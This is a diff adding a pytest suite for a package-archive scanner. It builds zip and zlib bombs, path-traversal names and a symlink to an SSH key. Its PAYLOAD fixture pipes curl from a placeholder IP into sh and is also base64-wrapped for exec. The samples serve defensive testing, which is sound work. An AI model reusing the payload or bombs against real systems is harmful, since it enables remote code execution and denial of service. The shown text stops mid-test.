@@ -1,0 +1,819 @@
+"""Hostile input: reading and scanning never raise, never hang, stay within memory, never write to disk.
+
+Every archive here is built in memory by the test itself. Each case asserts the specific finding
+(rule id) or the `error` reason, plus bounds on time (a SIGALRM guard) and, where the attack is
+on memory, on the peak measured by tracemalloc.
+"""
+
+from __future__ import annotations
+
+import base64
+import contextlib
+import gzip
+import io
+import json
+import os
+import random
+import signal
+import stat
+import struct
+import subprocess
+import sys
+import tarfile
+import textwrap
+import threading
+import time
+import tracemalloc
+import zipfile
+import zlib
+from collections.abc import Iterable, Iterator
+from pathlib import Path
+
+import pytest
+
+from interlock.analysis.engine import scan_artifact
+from interlock.analysis.result import ScanResult
+from interlock.analysis.verdict import Verdict
+from interlock.artifact.limits import DEFAULT_LIMITS, Deadline, Limits
+from interlock.artifact.model import Artifact
+from interlock.artifact.reader import UnsupportedArtifact, read_artifact, read_artifact_bytes
+
+MiB = 1024 * 1024
+WHEEL = "demo-1.0-py3-none-any.whl"
+SDIST = "demo-1.0.tar.gz"
+ZEROS = bytes(MiB)
+
+
+# -- guards ------------------------------------------------------------------------------------
+
+
+class Hung(BaseException):
+    """Raised by the alarm; a BaseException so that no `except Exception` in the product can swallow it."""
+
+
+@contextlib.contextmanager
+def within(seconds: float) -> Iterator[None]:
+    """Fail the test if the block runs longer than `seconds` (interrupting it where signals allow)."""
+    started = time.monotonic()
+    use_alarm = hasattr(signal, "setitimer") and threading.current_thread() is threading.main_thread()
+    if use_alarm:
+
+        def expire(signum: int, frame: object) -> None:
+            raise Hung(f"still running after {seconds} s")
+
+        previous = signal.signal(signal.SIGALRM, expire)
+        signal.setitimer(signal.ITIMER_REAL, seconds)
+    try:
+        yield
+    finally:
+        if use_alarm:
+            signal.setitimer(signal.ITIMER_REAL, 0)
+            signal.signal(signal.SIGALRM, previous)
+    assert time.monotonic() - started < seconds, f"took {time.monotonic() - started:.1f} s (limit {seconds} s)"
+
+
+class Peak:
+    mib: float = 0.0
+
+
+@contextlib.contextmanager
+def memory_peak() -> Iterator[Peak]:
+    """Peak Python allocations inside the block, in MiB."""
+    peak = Peak()
+    tracemalloc.start()
+    try:
+        yield peak
+    finally:
+        peak.mib = tracemalloc.get_traced_memory()[1] / MiB
+        tracemalloc.stop()
+
+
+# -- building archives -------------------------------------------------------------------------
+
+Entry = tuple[str | zipfile.ZipInfo, bytes | str]
+
+
+def zip_of(entries: Iterable[Entry], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as archive:
+        for name, data in entries:
+            if isinstance(name, zipfile.ZipInfo) and name.compress_type == zipfile.ZIP_STORED:
+                name.compress_type = compression
+            with _quiet_duplicates():
+                archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+@contextlib.contextmanager
+def _quiet_duplicates() -> Iterator[None]:
+    import warnings
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name": that is the point
+        yield
+
+
+def wheel_of(files: dict[str, bytes | str]) -> bytes:
+    entries: list[Entry] = [("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")]
+    entries += [("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")]
+    entries += list(files.items())
+    return zip_of(entries)
+
+
+def tar_info(name: str, kind: bytes = tarfile.REGTYPE, size: int = 0, linkname: str = "") -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.size = size
+    info.linkname = linkname
+    return info
+
+
+def tar_of(members: Iterable[tarfile.TarInfo | tuple[str, bytes]], compression: str = "gz", fmt: int = tarfile.PAX_FORMAT) -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode=f"w:{compression}" if compression else "w", format=fmt) as archive:
+        for member in members:
+            if isinstance(member, tarfile.TarInfo):
+                archive.addfile(member)
+            else:
+                name, data = member
+                archive.addfile(tar_info(name, size=len(data)), io.BytesIO(data))
+    return buffer.getvalue()
+
+
+def sdist_of(files: dict[str, bytes | str]) -> bytes:
+    setup = b"from setuptools import setup\nsetup(name='demo', version='1.0')\n"
+    members = [("demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"), ("demo-1.0/setup.py", setup)]
+    members += [(f"demo-1.0/{path}", data.encode() if isinstance(data, str) else data) for path, data in files.items()]
+    return tar_of(members)
+
+
+def zlib_of_zeros(mib: int) -> bytes:
+    """A valid zlib stream of `mib` MiB of zeros, built in milliseconds (no need to compress them all).
+
+    After a full flush the compressor starts afresh, so every MiB of zeros compresses to the same block.
+    """
+    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = deflate.compress(ZEROS) + deflate.flush(zlib.Z_FULL_FLUSH)
+    tail = deflate.flush()
+    adler = (((mib * MiB) % 65521) << 16) | 1  # Adler-32 of n zero bytes: A stays 1, B counts n
+    return b"\x78\xda" + block * mib + tail + adler.to_bytes(4, "big")
+
+
+# -- scanning ----------------------------------------------------------------------------------
+
+
+def check_well_formed(result: ScanResult) -> None:
+    """A verdict with its evidence: an error has a clear one-line reason; output encodes cleanly."""
+    assert isinstance(result.verdict, Verdict)
+    if result.verdict is Verdict.ERROR:
+        assert result.error and "\n" not in result.error and len(result.error) <= 300, result.error
+    else:
+        assert result.error is None
+    for finding in result.findings:
+        assert finding.message and "\n" not in finding.message, finding
+    json.dumps({"results": [result.to_json()]}).encode("utf-8")
+
+
+def scan_bytes(filename: str, data: bytes, limits: Limits = DEFAULT_LIMITS) -> tuple[Artifact, ScanResult]:
+    artifact = read_artifact_bytes(filename, data, limits)
+    result = scan_artifact(artifact, filename, deadline=Deadline(limits.max_seconds))
+    check_well_formed(result)
+    return artifact, result
+
+
+def rules(result: ScanResult) -> set[str]:
+    return {finding.rule for finding in result.findings}
+
+
+def messages(result: ScanResult, rule: str) -> list[str]:
+    return [item.message for item in result.findings if item.rule == rule]
+
+
+def finding(result: ScanResult, rule: str) -> str:
+    """The message of the first finding of `rule` (fails if there is none)."""
+    for item in result.findings:
+        if item.rule == rule:
+            return item.message
+    raise AssertionError(f"no {rule} finding in {sorted(rules(result))}")
+
+
+PAYLOAD = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
+HIDDEN = f"import base64\nexec(base64.b64decode({base64.b64encode(PAYLOAD.encode()).decode()!r}))\n"
+
+
+# -- bombs and limits --------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def zip_bomb() -> bytes:
+    """200 MiB of zeros deflated into a wheel member of about 200 KiB."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        archive.writestr("demo/__init__.py", "")
+        with archive.open("demo/data.bin", "w", force_zip64=True) as member:
+            for _ in range(200):
+                member.write(ZEROS)
+    return buffer.getvalue()
+
+
+def test_zip_bomb_is_flagged_without_being_decompressed(zip_bomb: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
+    opened: list[str] = []
+    real_open = zipfile.ZipFile.open
+
+    def recording_open(self: zipfile.ZipFile, name: object, *args: object, **kwargs: object) -> object:
+        opened.append(getattr(name, "filename", name))
+        return real_open(self, name, *args, **kwargs)
+
+    monkeypatch.setattr(zipfile.ZipFile, "open", recording_open)
+    # Deflate tops out near 1030:1, so a bomb of pure zeros is only just over the default ratio.
+    ratio = 200 * MiB / zipfile.ZipFile(io.BytesIO(zip_bomb)).getinfo("demo/data.bin").compress_size
+    assert ratio > DEFAULT_LIMITS.max_ratio, f"test bomb's ratio {ratio:.0f} is under the limit"
+    with within(10), memory_peak() as peak:
+        artifact, result = scan_bytes(WHEEL, zip_bomb)
+    assert "demo/data.bin" not in opened
+    assert "demo/data.bin" not in artifact.members
+    assert "expands 209715200 bytes" in finding(result, "archive-compression-ratio")
+    assert result.verdict is Verdict.SUSPICIOUS
+    assert peak.mib < 20, f"peak {peak.mib:.1f} MiB"
+
+
+def test_total_size_bomb_across_many_members_is_an_error() -> None:
+    # Each member is under the 1 MiB ratio threshold; together they pass the total.
+    data = zip_of((f"demo/part{number}.bin", bytes(900 * 1024)) for number in range(12))
+    with within(10):
+        _, result = scan_bytes(WHEEL, data, Limits(max_total_bytes=4 * MiB))
+    assert result.verdict is Verdict.ERROR
+    assert result.error == "more than 4 MiB uncompressed in total"
+
+
+def test_small_total_limits_are_described_in_bytes() -> None:
+    _, result = scan_bytes(WHEEL, zip_of([("demo/a.py", "x = 1\n" * 100)]), Limits(max_total_bytes=100))
+    assert result.error == "more than 100 bytes uncompressed in total"
+
+
+def test_too_many_members_is_an_error() -> None:
+    data = zip_of((f"demo/m{number}.py", "") for number in range(100))
+    _, result = scan_bytes(WHEEL, data, Limits(max_members=50))
+    assert result.verdict is Verdict.ERROR
+    assert result.error == "more than 50 archive entries"
+
+
+def test_directories_and_rejected_entries_count_towards_the_entry_limit() -> None:
+    # They cost memory to list even though no file is read: a tar of a million empty directories
+    # compresses to almost nothing.
+    members = [tar_info(f"demo-1.0/d{number}/", tarfile.DIRTYPE) for number in range(100)]
+    members += [tar_info(f"../escape{number}") for number in range(100)]
+    _, result = scan_bytes(SDIST, tar_of(members), Limits(max_members=150))
+    assert result.error == "more than 150 archive entries"
+
+
+def test_member_over_the_member_limit_is_not_read() -> None:
+    data = wheel_of({"demo/__init__.py": "", "demo/big.bin": bytes(2 * MiB)})
+    artifact, result = scan_bytes(WHEEL, data, Limits(max_member_bytes=MiB, max_ratio=1e9))
+    assert "demo/big.bin" not in artifact.members
+    assert "declares 2097152 bytes" in finding(result, "archive-member-too-large")
+
+
+def test_nested_archives_deeper_than_the_limit_are_not_read() -> None:
+    inner = wheel_of({"demo/deepest.py": PAYLOAD})
+    for level in range(3):
+        inner = zip_of([(f"level{level}.zip", inner)])
+    with within(10):
+        artifact, result = scan_bytes(WHEEL, wheel_of({"demo/__init__.py": "", "demo/vendor.zip": inner}))
+    assert "deep; not read" in finding(result, "archive-nesting-too-deep")
+    assert not any(path.endswith("deepest.py") for path in artifact.members)
+
+
+def test_a_bomb_inside_a_nested_archive_is_flagged_too(zip_bomb: bytes) -> None:
+    outer = wheel_of({"demo/__init__.py": "", "demo/vendor.whl": zip_bomb})
+    with within(10), memory_peak() as peak:
+        _, result = scan_bytes(WHEEL, outer)
+    assert "archive-compression-ratio" in rules(result)
+    assert peak.mib < 30, f"peak {peak.mib:.1f} MiB"
+
+
+@pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME, tarfile.GNUTYPE_LONGLINK])
+def test_tar_header_record_bomb_is_refused_before_it_is_read(kind: bytes) -> None:
+    # A PAX or GNU long-name record declaring 200 MiB of (well-compressed) zeros: tarfile would read
+    # the whole record into memory before we ever see a member.
+    header = tar_info("././@LongLink", kind, size=200 * MiB).tobuf(format=tarfile.GNU_FORMAT if kind != tarfile.XHDTYPE else tarfile.USTAR_FORMAT)
+    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
+    data = compressor.compress(header) + b"".join(compressor.compress(ZEROS) for _ in range(200)) + compressor.flush()
+    with within(10), memory_peak() as peak:
+        _, result = scan_bytes(SDIST, data)
+    assert result.verdict is Verdict.ERROR
+    assert result.error == "tar header record of 200 MiB (PAX or long name); genuine ones are tiny"
+    assert peak.mib < 10, f"peak {peak.mib:.1f} MiB"
+
+
+def test_unknown_tar_member_type_with_an_absurd_size_does_not_hang() -> None:
+    # tarfile skips unknown types by their size; 2**70 bytes would be skipped block by block forever.
+    data = tar_of([("demo-1.0/setup.py", b"x = 1\n"), tar_info("demo-1.0/odd", b"Z", size=2**70)], fmt=tarfile.GNU_FORMAT)
+    with within(10):
+        _, result = scan_bytes(SDIST, data)
+    assert result.verdict is Verdict.ERROR
+    assert result.error.startswith("more than") and "uncompressed in total" in result.error
+
+
+# -- paths, links, devices, duplicates ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["../../etc/x", "a/../../b", "demo/../../../outside.py", "..\\..\\evil.py", "demo\\..\\..\\evil.py"])
+def test_path_traversal_is_flagged_and_not_read(name: str) -> None:
+    for filename, data in ((WHEEL, wheel_of({"demo/__init__.py": "", name: PAYLOAD})), (SDIST, tar_of([("demo-1.0/setup.py", b""), (name, PAYLOAD.encode())]))):
+        artifact, result = scan_bytes(filename, data)
+        assert "escape the install directory" in finding(result, "archive-path-traversal")
+        assert result.verdict is Verdict.SUSPICIOUS
+        assert all(member.data != PAYLOAD.encode() for member in artifact.members.values())
+
+
+@pytest.mark.parametrize("name", ["/etc/passwd", "C:\\x", "c:/windows/evil.py", "\\\\server\\share\\evil.py"])
+def test_absolute_paths_are_flagged_and_not_read(name: str) -> None:
+    for filename, data in ((WHEEL, wheel_of({"demo/__init__.py": "", name: PAYLOAD})), (SDIST, tar_of([("demo-1.0/setup.py", b""), (name, PAYLOAD.encode())]))):
+        artifact, result = scan_bytes(filename, data)
+        assert "absolute path" in finding(result, "archive-absolute-path")
+        assert all(member.data != PAYLOAD.encode() for member in artifact.members.values())
+
+
+def _with_nul(data: bytes, placeholder: bytes) -> bytes:
+    """zipfile will not write a NUL in a name; put one in the bytes (local and central headers)."""
+    assert data.count(placeholder) == 2
+    return data.replace(placeholder, placeholder[:-1] + b"\x00")
+
+
+def test_nul_in_a_zip_name_is_flagged_and_analysed_under_the_name_installers_use() -> None:
+    # zipfile (and so pip) cuts the name at the NUL: `demo/__init__.py<NUL>.txt` installs as demo/__init__.py.
+    data = _with_nul(wheel_of({"demo/__init__.py#.txt": PAYLOAD}), b"__init__.py#")
+    artifact, result = scan_bytes(WHEEL, data)
+    assert "NUL byte; installers read it as 'demo/__init__.py'" in finding(result, "archive-path-traversal")
+    assert "demo/__init__.py" in artifact.members
+    assert "shell-download" in rules(result)
+
+
+def test_nul_in_a_tar_name_is_flagged() -> None:
+    # A ustar name field ends at its first NUL (for pip too); a PAX path record can carry one.
+    data = tar_of([("demo-1.0/setup.py", b""), ("demo-1.0/\xe9vil\x00.py", PAYLOAD.encode())])
+    artifact, result = scan_bytes(SDIST, data)
+    assert "NUL byte" in finding(result, "archive-path-traversal")
+    assert not any("vil" in path for path in artifact.members)
+
+
+def test_tar_symlink_and_hardlink_are_flagged_with_their_targets() -> None:
+    data = tar_of(
+        [
+            ("demo-1.0/setup.py", b""),
+            tar_info("demo-1.0/demo/creds", tarfile.SYMTYPE, linkname="/home/user/.ssh/id_rsa"),
+            tar_info("demo-1.0/demo/hard", tarfile.LNKTYPE, linkname="demo-1.0/setup.py"),
+        ]
+    )
+    artifact, result = scan_bytes(SDIST, data)
+    messages = [f.message for f in result.findings if f.rule == "archive-link"]
+    assert any("to '/home/user/.ssh/id_rsa'" in message for message in messages)
+    assert any("to 'demo-1.0/setup.py'" in message for message in messages)
+    assert "demo/creds" not in artifact.members and "demo/hard" not in artifact.members
+
+
+def test_zip_symlink_is_flagged_and_its_content_still_analysed() -> None:
+    # pip writes a zip "symlink" as an ordinary file holding its bytes: hiding code behind the
+    # link bit must not hide it from the analysis.
+    link = zipfile.ZipInfo("demo/__init__.py")
+    link.external_attr = (stat.S_IFLNK | 0o777) << 16
+    artifact, result = scan_bytes(WHEEL, wheel_of({link: HIDDEN}))  # type: ignore[dict-item]
+    assert "symbolic or hard link" in finding(result, "archive-link")
+    assert "demo/__init__.py" in artifact.members
+    assert "decoded-exec" in rules(result)
+    assert result.verdict is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
+def test_tar_devices_and_fifos_are_flagged(kind: bytes) -> None:
+    data = tar_of([("demo-1.0/setup.py", b""), tar_info("demo-1.0/demo/dev", kind)])
+    artifact, result = scan_bytes(SDIST, data)
+    assert "special file" in finding(result, "archive-device")
+    assert "demo/dev" not in artifact.members
+    assert result.verdict is Verdict.SUSPICIOUS
+
+
+def test_zip_fifo_bits_are_flagged() -> None:
+    fifo = zipfile.ZipInfo("demo/pipe")
+    fifo.external_attr = (stat.S_IFIFO | 0o644) << 16
+    _, result = scan_bytes(WHEEL, wheel_of({"demo/__init__.py": "", fifo: b"data"}))  # type: ignore[dict-item]
+    assert "archive-device" in rules(result)
+
+
+def test_duplicate_zip_member_the_installed_last_copy_is_analysed() -> None:
+    data = zip_of([("demo/__init__.py", "x = 1\n"), ("demo/__init__.py", HIDDEN), ("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")])
+    artifact, result = scan_bytes(WHEEL, data)
+    assert "the last copy is the one installed" in finding(result, "archive-duplicate-member")
+    assert artifact.members["demo/__init__.py"].data == HIDDEN.encode()
+    assert "decoded-exec" in rules(result)
+
+
+def test_duplicate_tar_member_and_normalised_duplicates_are_flagged() -> None:
+    data = tar_of([("demo-1.0/setup.py", b"x = 1\n"), ("demo-1.0/./setup.py", HIDDEN.encode()), ("demo-1.0//setup.py", b"y = 2\n")])
+    artifact, result = scan_bytes(SDIST, data)
+    assert len([f for f in result.findings if f.rule == "archive-duplicate-member"]) == 2
+    assert artifact.members["setup.py"].data == b"y = 2\n"
+
+
+def test_undecodable_tar_names_come_out_printable() -> None:
+    # tarfile turns undecodable name bytes into lone surrogates, which no report could print.
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.GNU_FORMAT, encoding="latin-1") as archive:
+        for name, data in (("demo-1.0/setup.py", b""), ("demo-1.0/caf\xe9.py", b"import os\nos.system('id')\n")):
+            archive.addfile(tar_info(name, size=len(data)), io.BytesIO(data))
+    artifact, result = scan_bytes(SDIST, buffer.getvalue())
+    assert "caf\ufffd.py" in artifact.members
+    for path in artifact.members:
+        path.encode("utf-8")
+
+
+# -- damaged archives --------------------------------------------------------------------------
+
+
+def _corrupt(result: ScanResult) -> str:
+    assert result.verdict is Verdict.ERROR
+    assert result.error is not None and result.error.startswith("corrupt or truncated archive: ")
+    return result.error
+
+
+def test_truncated_tar_gz_is_an_error() -> None:
+    data = sdist_of({f"demo/m{number}.py": os.urandom(2000).hex() for number in range(5)})
+    _corrupt(scan_bytes(SDIST, data[: len(data) // 2])[1])
+
+
+def test_truncated_zip_is_an_error() -> None:
+    data = wheel_of({f"demo/m{number}.py": os.urandom(2000).hex() for number in range(5)})
+    assert "BadZipFile" in _corrupt(scan_bytes(WHEEL, data[: len(data) // 2])[1])
+
+
+def test_tar_member_declaring_more_than_the_stream_holds_is_an_error() -> None:
+    # A complete, valid gzip stream around a tar whose header promises 1 MiB and delivers 100 bytes.
+    raw = tar_info("demo-1.0/setup.py", size=MiB).tobuf(format=tarfile.USTAR_FORMAT) + b"x" * 100
+    _corrupt(scan_bytes(SDIST, gzip.compress(raw))[1])
+
+
+def test_a_second_gzip_member_is_read_as_pip_reads_it() -> None:
+    # tarfile's stream mode stops after the first gzip member; pip's GzipFile goes on. Files hidden
+    # in a second member must be seen.
+    first = tar_info("demo-1.0/setup.py", size=6).tobuf(format=tarfile.USTAR_FORMAT) + b"x = 1\n".ljust(512, b"\0")
+    hidden = PAYLOAD.encode()
+    second = tar_info("demo-1.0/demo/__init__.py", size=len(hidden)).tobuf(format=tarfile.USTAR_FORMAT)
+    second += hidden.ljust(512, b"\0") + bytes(1024)
+    artifact, result = scan_bytes(SDIST, gzip.compress(first) + gzip.compress(second))
+    assert "demo/__init__.py" in artifact.members
+    assert "shell-download" in rules(result)
+
+
+def test_a_tar_gz_with_a_zip_appended_is_read_as_a_zip_like_pip() -> None:
+    # pip unzips whatever zipfile.is_zipfile accepts, whatever the name says.
+    benign = sdist_of({"demo/__init__.py": "x = 1\n"})
+    hidden = zip_of([("demo-1.0/setup.py", HIDDEN)])
+    artifact, result = scan_bytes(SDIST, benign + hidden)
+    assert "decoded-exec" in rules(result)
+
+
+def test_zip_member_declaring_less_than_it_inflates_to_is_not_trusted() -> None:
+    data = bytearray(wheel_of({"demo/__init__.py": "", "demo/liar.py": "x = 1\n" * 10_000}))
+    # Patch the uncompressed size (local header offset 22, central header offset 24) down to 100.
+    real = struct.pack("<I", 60_000)
+    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
+        start = 0
+        while (start := data.find(signature, start)) >= 0:
+            if data[start + offset : start + offset + 4] == real:
+                data[start + offset : start + offset + 4] = struct.pack("<I", 100)
+            start += 4
+    with memory_peak() as peak:
+        artifact, result = scan_bytes(WHEEL, bytes(data))
+    assert "demo/liar.py" not in artifact.members
+    assert "CRC" in finding(result, "archive-unreadable-member")
+    assert peak.mib < 10
+
+
+@pytest.mark.parametrize("filename", [WHEEL, SDIST, "demo-1.0.zip", "demo-1.0.tar.bz2", "demo-1.0.tar.xz", "demo-1.0-py3.11.egg"])
+@pytest.mark.parametrize("data", [b"", os.urandom(4096), b"PK\x03\x04" + os.urandom(100), b"\x1f\x8b" + os.urandom(100), b"BZh9" + os.urandom(100)])
+def test_empty_and_garbage_files_are_errors(filename: str, data: bytes) -> None:
+    with within(10):
+        _, result = scan_bytes(filename, data)
+    _corrupt(result)
+
+
+def test_damaged_zip_members_are_findings_not_crashes() -> None:
+    # LZMA data that is not LZMA, an encrypted member and an unknown method: each is one unreadable member.
+    good = ("demo/__init__.py", "import os\nos.system('id')\n")
+    data = bytearray(zip_of([good, ("demo/lzma.py", os.urandom(3000).hex())], zipfile.ZIP_LZMA))
+    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("demo/lzma.py")
+    start = info.header_offset + 30 + len(info.filename) + len(info.extra) + 9  # past LZMA's own header
+    data[start : start + 64] = bytes(64)
+    artifact, result = scan_bytes(WHEEL, bytes(data))
+    assert "demo/__init__.py" in artifact.members and "demo/lzma.py" not in artifact.members
+    assert "archive-unreadable-member" in rules(result)
+
+    data = bytearray(zip_of([good, ("demo/secret.py", "x = 1\n")]))
+    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("demo/secret.py")
+    data[info.header_offset + 6] |= 0x1  # "encrypted" in the local header…
+    central = data.find(b"PK\x01\x02", data.find(b"PK\x01\x02") + 4)
+    data[central + 8] |= 0x1  # …and in the central directory (zipfile will not write it for us)
+    artifact, result = scan_bytes(WHEEL, bytes(data))
+    assert "password required" in finding(result, "archive-unreadable-member")
+    assert "demo/__init__.py" in artifact.members
+
+
+def test_zip_claiming_an_unknown_format_version_is_an_error() -> None:
+    data = bytearray(wheel_of({"demo/__init__.py": ""}))
+    central = data.find(b"PK\x01\x02")
+    data[central + 6] = 99  # "version needed to extract": 9.9
+    assert "NotImplementedError" in _corrupt(scan_bytes(WHEEL, bytes(data))[1])
+
+
+def test_random_damage_never_escapes() -> None:
+    # A small deterministic fuzz over every format the reader takes: whatever the damage, a result.
+    seeds = [
+        (WHEEL, wheel_of({"demo/__init__.py": PAYLOAD, "demo/inner.zip": zip_of([("a.py", "x = 1\n")])})),
+        ("demo-1.0.zip", zip_of([("demo-1.0/setup.py", PAYLOAD)], zipfile.ZIP_BZIP2)),
+        ("demo-1.0.zip", zip_of([("demo-1.0/setup.py", PAYLOAD)], zipfile.ZIP_LZMA)),
+        (SDIST, sdist_of({"demo/__init__.py": PAYLOAD})),
+        ("demo-1.0.tar.bz2", tar_of([("demo-1.0/setup.py", PAYLOAD.encode())], "bz2")),
+        ("demo-1.0.tar.xz", tar_of([("demo-1.0/setup.py", PAYLOAD.encode())], "xz")),
+    ]
+    rng = random.Random(20261128)
+    with within(60):
+        for _ in range(600):
+            filename, original = rng.choice(seeds)
+            data = bytearray(original)
+            for _ in range(rng.choice((1, 2, 8))):
+                position = rng.randrange(len(data))
+                if rng.random() < 0.8:
+                    data[position] = rng.randrange(256)
+                else:
+                    del data[position:]
+                data = data or bytearray(b"\0")
+            scan_bytes(filename, bytes(data))
+
+
+def test_a_fifo_named_like_an_artifact_is_refused_not_waited_on(tmp_path: Path) -> None:
+    if not hasattr(os, "mkfifo"):
+        pytest.skip("no FIFOs here")
+    fifo = tmp_path / WHEEL
+    os.mkfifo(fifo)
+    with within(5), pytest.raises(UnsupportedArtifact, match="not a regular file"):
+        read_artifact(fifo)
+
+
+# -- hostile Python source ---------------------------------------------------------------------
+
+
+def scan_source(source: bytes | str, limits: Limits = DEFAULT_LIMITS) -> ScanResult:
+    return scan_bytes(WHEEL, wheel_of({"demo/__init__.py": source}), limits)[1]
+
+
+def test_source_with_nul_bytes() -> None:
+    result = scan_source(b"import os\x00\nos.system('id')\n")
+    assert "NUL" in finding(result, "source-null-bytes")
+    assert "process-spawn" in rules(result)
+
+
+def test_source_that_is_not_utf8() -> None:
+    result = scan_source("# caf\xe9\nimport os\nos.system('id')\n".encode("latin-1"))
+    assert "declared encoding" in finding(result, "source-not-utf8")
+    assert "process-spawn" in rules(result)
+
+
+DEEP_SOURCES = {
+    "open-parens": ("(" * 100_000, "source-unparseable"),
+    "nested-list": ("x = " + "[" * 50_000 + "]" * 50_000, "source-unparseable"),
+    "nested-dict": ("x = " + "{1: " * 50_000 + "1" + "}" * 50_000, "source-unparseable"),
+    "unary-chain": ("x = " + "-" * 50_000 + "1", "source-too-deep"),
+    "unary-million": ("-" * 1_000_000 + "1", "source-too-large"),
+    "binop-chain": ("+".join(["a"] * 200_000), "source-too-deep"),
+    "attribute-chain": ("a." * 20_000 + "b", "source-too-deep"),
+    "visitor-depth": ("x = " + "+".join(["'a'"] * 2_000), "source-too-deep"),  # parses; walking it is what recurses
+}
+
+
+@pytest.mark.parametrize("name", sorted(DEEP_SOURCES))
+def test_deeply_nested_source_is_a_finding_not_a_crash(name: str) -> None:
+    source, rule = DEEP_SOURCES[name]
+    with within(20):
+        result = scan_source(source)
+    assert rule in rules(result), sorted(rules(result))
+
+
+def test_deep_sources_do_not_crash_a_fresh_interpreter() -> None:
+    # A segfault would take pytest down with it; in a child it is a clean failure with the signal number.
+    program = textwrap.dedent(
+        """
+        import sys
+        from interlock.analysis.facts import When
+        from interlock.analysis.python_source import analyse_python
+        for source in sys.argv[1:]:
+            analyse_python("demo/__init__.py", eval(source).encode(), When.IMPORT)
+        print("survived")
+        """
+    )
+    expressions = ['"(" * 100_000', '"-" * 1_000_000 + "1"', '"x = " + "[" * 50_000 + "]" * 50_000', '"+".join(["a"] * 200_000)', '"a." * 200_000 + "b"']
+    with within(120):
+        done = subprocess.run([sys.executable, "-c", program, *expressions], capture_output=True, text=True, timeout=110)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert done.stdout.strip() == "survived"
+
+
+def test_twenty_megabyte_single_line_source() -> None:
+    line = "x = '" + "A" * (20 * MiB) + "'; import os; os.system('id')\n"
+    with within(30):
+        result = scan_source(line, Limits(max_ratio=1e9))  # over the 8 MiB kept in memory: reported, not analysed
+    assert "too large to analyse" in finding(result, "source-too-large")
+    with within(60), memory_peak() as peak:
+        result = scan_source(line, Limits(max_kept_bytes=32 * MiB, max_ratio=1e9))
+    assert "process-spawn" in rules(result)
+    assert peak.mib < 400, f"peak {peak.mib:.0f} MiB"
+
+
+def test_source_with_too_many_tokens_is_scanned_as_text_within_bounded_memory() -> None:
+    # ast.parse costs ~700 bytes per token on "a,a,a,…": 8 MiB of it needed over 5 GB before the guard.
+    source = "x = [" + "a," * (3 * MiB) + "]\nimport os\nos.system('id')\n"  # 6 MiB, under the 8 MiB kept
+    with within(60), memory_peak() as peak:
+        result = scan_source(source, Limits(max_ratio=1e9))
+    assert "too many to parse" in finding(result, "source-too-large")
+    assert "process-spawn" in rules(result)  # the text fallback still sees the call
+    assert peak.mib < 150, f"peak {peak.mib:.0f} MiB"
+
+
+def test_a_file_that_is_one_big_string_still_parses() -> None:
+    # Long string constants (generated data tables) are one token each, not a reason to skip the AST.
+    source = "DATA = '" + "ab cd, ef; " * 200_000 + "'\nimport os\nos.system('id')\n"
+    result = scan_source(source)
+    assert "source-too-large" not in rules(result)
+    assert "process-spawn" in rules(result)
+
+
+# -- decoding bombs inside source --------------------------------------------------------------
+
+
+def test_zlib_bomb_inside_base64_inside_exec_is_bounded() -> None:
+    bomb = base64.b64encode(zlib_of_zeros(1024)).decode()  # 1 GiB once inflated
+    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{bomb}')))\n"
+    with within(30), memory_peak() as peak:
+        result = scan_source(source)
+    assert result.verdict is not Verdict.ERROR
+    assert rules(result) & {"decoded-exec", "obfuscated-exec", "decode-capability"} or result.findings
+    assert peak.mib < 100, f"peak {peak.mib:.0f} MiB"
+
+
+def test_nested_zlib_bomb_is_bounded() -> None:
+    # zlib(zlib(4 GiB of zeros)) fits in a few kilobytes of source.
+    bomb = base64.b64encode(zlib.compress(zlib_of_zeros(4096), 9)).decode()
+    assert len(bomb) < 64 * 1024
+    source = f"import base64, zlib\nexec(zlib.decompress(zlib.decompress(base64.b64decode('{bomb}'))))\n"
+    with within(30), memory_peak() as peak:
+        result = scan_source(source)
+    assert result.verdict is not Verdict.ERROR
+    assert peak.mib < 100, f"peak {peak.mib:.0f} MiB"
+
+
+def test_zlib_of_zeros_helper_is_a_valid_stream() -> None:
+    assert zlib.decompress(zlib_of_zeros(3)) == bytes(3 * MiB)
+
+
+def test_many_multi_megabyte_payloads_are_bounded_in_time_and_memory() -> None:
+    # Each line hides ~4 MiB of statements (just under the folder's output bound). Before the
+    # payload budget, ten such lines took over two minutes and 1.6 GB. (No tracemalloc here: it
+    # slows the line-by-line fallback tenfold; the zlib bomb tests above bound payload memory.)
+    lines = []
+    for number in range(12):
+        payload = base64.b64encode(zlib.compress(f"y = {number}\n".encode() + b"x = 1\n" * 650_000, 9)).decode()
+        lines.append(f"exec(zlib.decompress(base64.b64decode('{payload}')))\n")
+    source = "import base64, zlib\n" + "".join(lines)
+    with within(30):
+        result = scan_source(source)
